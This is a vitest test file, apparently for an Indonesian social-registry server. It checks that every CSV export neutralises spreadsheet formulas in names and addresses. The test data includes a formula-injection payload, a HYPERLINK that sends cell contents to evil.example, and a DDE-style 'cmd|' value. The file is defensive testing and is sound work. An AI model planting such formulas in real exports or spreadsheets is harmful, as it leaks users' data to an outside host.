import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../testing/test-app.ts';
import { aPerson, CINUNUK } from '../registry/testing.ts';
import { aCase } from '../cases/testing.ts';
import { anApprovedProposal } from '../proposals/testing.ts';
import { aReferral, dinkesId } from '../referrals/testing.ts';
import { csvDocument, neutraliseFormula } from './csv.ts';

/**
 * Every CSV the server sends goes through one writer: a name that a spreadsheet would run as
 * a formula comes out as text in every export, with a byte order mark and CRLF line ends.
 */

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")';
const NEUTRALISED = `'${EVIL}`;

/** The file's cells, after checking the BOM and the line ends. */
function cellsOf(body: string): string[] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  expect(body.endsWith('\r\n')).toBe(true);
  const rows = parse(body, { bom: true, relax_column_count: true }) as string[][];
  return rows.flat();
}

function expectNeutralised(cells: string[]) {
  expect(cells).toContain(NEUTRALISED);
  expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || (/^-/.test(c) && !/^-(\d+([.,]\d+)?)?$/.test(c)))).toEqual([]);
}

describe('the one CSV writer', () => {
  it('neutralises formulas and keeps numbers, negative numbers and the lone dash', () => {
    expect(neutraliseFormula('=1+1')).toBe("'=1+1");
    expect(neutraliseFormula('+62 812')).toBe("'+62 812");
    expect(neutraliseFormula('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutraliseFormula('-2+3+cmd|x')).toBe("'-2+3+cmd|x");
    expect(neutraliseFormula('\uFF1D1')).toBe("'\uFF1D1");
    expect(neutraliseFormula('-')).toBe('-');
    expect(neutraliseFormula('-12.5')).toBe('-12.5');
    expect(neutraliseFormula('Siti')).toBe('Siti');
    expect(csvDocument(['a', 'b'], [[EVIL, -3], ['x;y', true], ['line\nbreak', null]]))
      .toBe(`\uFEFFa,b\r\n"'=HYPERLINK(""http://evil.example/?d=""&A1,""klik"")",-3\r\n"x;y",true\r\n"line\nbreak",\r\n`);
  });
});

describe('every export neutralises a formula in a name', () => {
  it('registry export', async () => {
    await aPerson(t.deps.db, { village: CINUNUK, fullName: EVIL });
    const res = await (await t.as('supervisor.cileunyi')).get('/api/v1/registry/export?format=csv');
    expect(res.status).toBe(200);
    expectNeutralised(cellsOf(res.raw.body));
  });

  it('case export', async () => {
    const person = await aPerson(t.deps.db, { village: CINUNUK, fullName: EVIL });
    const c = await aCase(t.deps, { person });
    const res = await (await t.as('koordinator.cinunuk')).post('/api/v1/cases/export', { ids: [c.id] });
    expect(res.status).toBe(200);
    expectNeutralised(cellsOf(res.raw.body));
  });

  it('proposal submission export', async () => {
    const p = await anApprovedProposal(t.deps, {
      input: { type: 'new', householdId: undefined, changes: { villageCode: CINUNUK, address: '@Kp. Cikoneng', members: [{ fullName: EVIL, sex: 'M', relationship: 'head' }] } },
    });
    const kab = await t.as('kabupaten');
    const prepared = await kab.post('/api/v1/proposal-submissions', { proposalIds: [p.id] });
    expect(prepared.status).toBe(201);
    const res = await kab.get(`/api/v1/proposal-submissions/${prepared.body.id as string}/export?format=csv`);
    expect(res.status).toBe(200);
    const cells = cellsOf(res.raw.body);
    expectNeutralised(cells);
    expect(cells).toContain("'@Kp. Cikoneng");
  });

  it('stats export', async () => {
    await aReferral(t.deps);
    await t.deps.db.query('UPDATE organizations SET name = $2 WHERE id = $1', [await dinkesId(t.deps), EVIL]);
    const res = await (await t.as('eksekutif')).get('/api/v1/stats/overview.csv?area=32.04');
    expect(res.status).toBe(200);
    expectNeutralised(cellsOf(res.raw.body));
  });
});
